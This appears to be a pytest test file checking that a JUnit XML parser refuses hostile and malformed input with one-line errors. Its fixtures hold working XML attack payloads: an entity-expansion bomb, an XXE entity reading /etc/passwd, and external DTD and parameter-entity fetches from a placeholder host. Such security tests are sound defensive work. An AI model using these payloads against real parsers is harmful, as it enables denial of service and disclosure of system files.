"""Hostile and broken JUnit input: refused with a one-line InputError naming the file."""

from __future__ import annotations

import pytest

from qmsdoc.errors import InputError
from qmsdoc.evidence.junit import parse_junit

BILLION_LAUGHS = b"""\
<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<testsuites><testsuite name="s"><testcase classname="c" name="n">\
<failure message="&lol9;"/></testcase></testsuite></testsuites>
"""

EXTERNAL_ENTITY = b"""\
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE testsuites [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<testsuites><testsuite name="s"><testcase classname="c" name="n">\
<failure>&xxe;</failure></testcase></testsuite></testsuites>
"""

EXTERNAL_DTD = b"""\
<?xml version="1.0"?>
<!DOCTYPE testsuites SYSTEM "http://example.invalid/junit.dtd">
<testsuites/>
"""

PARAMETER_ENTITY = b"""\
<?xml version="1.0"?>
<!DOCTYPE testsuites [
  <!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd">
  %remote;
]>
<testsuites/>
"""


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("lol.xml", BILLION_LAUGHS),
        ("xxe.xml", EXTERNAL_ENTITY),
        ("dtd.xml", EXTERNAL_DTD),
        ("param.xml", PARAMETER_ENTITY),
    ],
)
def test_dtds_and_entities_are_refused_naming_the_file(name: str, data: bytes) -> None:
    with pytest.raises(InputError) as caught:
        parse_junit(data, source=f"reports/{name}")
    message = str(caught.value)
    assert message.startswith(f"reports/{name}: refused: the XML declares a DTD")
    assert "\n" not in message
    assert "root:" not in message  # nothing of /etc/passwd was read


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (
            b"<testsuites>\n<testsuite name='s'>\n</testsuites>\n",
            "bad.xml:3: not well-formed XML: mismatched tag",
        ),
        (b"", "bad.xml:1: not well-formed XML: no element found"),
        (b"<testsuites>\n<testcase name='a' name='b'/>", "bad.xml:2: not well-formed"),
        (b"\x00\x01 not xml at all", "bad.xml:1: not well-formed XML"),
        (b"<testsuites/>\n<testsuites/>", "bad.xml:2: not well-formed XML: junk"),
    ],
)
def test_malformed_xml_names_the_file_and_line(data: bytes, expected: str) -> None:
    with pytest.raises(InputError) as caught:
        parse_junit(data, source="bad.xml")
    assert str(caught.value).startswith(expected)
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize(
    ("data", "root"),
    [
        (b"<html><body>404</body></html>", "html"),
        (b"<testcase classname='c' name='n'/>", "testcase"),
        (b'<ns:report xmlns:ns="urn:x"/>', "report"),
    ],
)
def test_a_document_that_is_not_junit_is_refused(data: bytes, root: str) -> None:
    with pytest.raises(InputError) as caught:
        parse_junit(data, source="out/report.xml")
    assert str(caught.value) == (
        f"out/report.xml: not a JUnit XML report (root element <{root}>)"
    )
